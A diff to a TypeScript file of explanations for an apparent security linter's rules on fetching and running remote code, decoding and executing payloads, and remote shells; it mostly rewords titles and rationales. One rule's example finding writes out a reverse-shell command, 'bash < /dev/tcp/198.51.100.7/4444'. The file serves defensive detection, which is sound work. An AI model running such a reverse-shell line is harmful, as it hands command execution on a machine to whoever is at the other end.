@@ -1,14 +1,14 @@
 import type { Explanation } from "./explanations.js";
 
-/** Why the extended profile looks at what runs elsewhere, in other languages, and by its address. */
-const BY_ADDRESS = `What stands at an address may be another program tomorrow, and nobody has looked at it. A registry's
-name and version leave a record, and can be pinned; an address alone is neither.`;
+/** Why running a program by its address is unsafe. */
+const BY_ADDRESS = `The content of an address can change at any time, and nobody has reviewed it. A package name and version of
+a registry leave a record and can be pinned; an address cannot.`;
 
-const REMOTE = `Whoever controls the address, or the way to it, decides what runs, and may send something
-else to the next caller.`;
+const REMOTE = `Whoever controls the server or the connection decides what runs, and may send something different
+to the next caller.`;
 
-const DECODED = `An encoded payload hides what it does from everybody who reads the code. Decoding alone is
-harmless; executing the result is not.`;
+const DECODED = `An encoded payload hides its effect from everybody who reads the code. Decoding alone is harmless;
+executing the result is not.`;
 
 const POWERSHELL = `Invoke-WebRequest 'https://x.example/install.ps1' -OutFile install.ps1
 Get-Content install.ps1              # look at what would run
@@ -16,15 +16,15 @@ Get-FileHash install.ps1             # compare with the publisher's checksum
 Get-AuthenticodeSignature install.ps1
 .\\install.ps1`;
 
-/** The rules of the extended profile that speak of more than the shell's own pipes. */
+/** The explanations of rules that only the extended profile has, except those for the shell's pipes. */
 export const extendedExplanations: readonly (readonly [string, Explanation])[] = [
   [
     "bash/run-address",
     {
       profile: "extended",
-      title: "a program is fetched and run by its address",
+      title: "a remote program is run by its address",
       why: `${BY_ADDRESS}
-Installing from a registry, or running what a registry's name stands for, is no finding.`,
+Installing from a registry, or running a package by its registry name, is not a finding.`,
       instead:
         "git clone https://x.example/tool.git && cd tool\ngit log -3 && less main.ts   # look at what would run\ndeno run main.ts",
       findings: [
@@ -39,9 +39,9 @@ Installing from a registry, or running what a registry's name stands for, is no 
     "bash/remote-shell",
     {
       profile: "extended",
-      title: "a shell runs what the other side of a connection sends",
-      why: "Whoever answers at the other end types commands that run here, with the rights of whoever started it.",
-      instead: "Use ssh, which says who may log in and from where.",
+      title: "a shell executes what the other end of a network connection sends",
+      why: "Whoever is at the other end enters commands that run here, with the rights of the user who started the shell.",
+      instead: "Use ssh, which controls who may log in and from where.",
       findings: ["```bash\n«bash < /dev/tcp/198.51.100.7/4444»\n```"],
       clean: ["```bash\necho ping > /dev/tcp/198.51.100.7/4444\n```", "nc -z host.example 22"],
     },
@@ -50,7 +50,7 @@ Installing from a registry, or running what a registry's name stands for, is no 
     "powershell/fetch-execute",
     {
       profile: "extended",
-      title: "PowerShell executes text that it fetched",
+      title: "PowerShell code executes downloaded content",
       why: `${REMOTE}
 It is a finding when what a web command returns reaches Invoke-Expression, a script block or a compiler;
 -OutFile writes a file, which can be looked at first.`,
@@ -69,7 +69,7 @@ It is a finding when what a web command returns reaches Invoke-Expression, a scr
     "powershell/decode-execute",
     {
       profile: "extended",
-      title: "PowerShell executes a payload that it decodes at run time",
+      title: "PowerShell code executes decoded content",
       why: DECODED,
       instead:
         "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($payload))   # read it first",
@@ -84,7 +84,7 @@ It is a finding when what a web command returns reaches Invoke-Expression, a scr
     "script/fetch-execute",
     {
       profile: "extended",
-      title: "a script executes text that it fetched",
+      title: "a script executes downloaded content",
       why: REMOTE,
       instead:
         "Fetch to a file, read it, compare its checksum with the publisher's, and load the file.",
@@ -99,7 +99,7 @@ It is a finding when what a web command returns reaches Invoke-Expression, a scr
     "script/decode-execute",
     {
       profile: "extended",
-      title: "a script executes a payload that it decodes at run time",
+      title: "a script executes decoded content",
       why: DECODED,
       instead: "Print the decoded payload and read it first.",
       findings: [
@@ -113,7 +113,7 @@ It is a finding when what a web command returns reaches Invoke-Expression, a scr
     "script/run-address",
     {
       profile: "extended",
-      title: "a script runs a program by its address",
+      title: "a script runs a remote program by its address",
       why: BY_ADDRESS,
       instead: "Keep a copy of the file beside the script, and include that.",
       findings: [
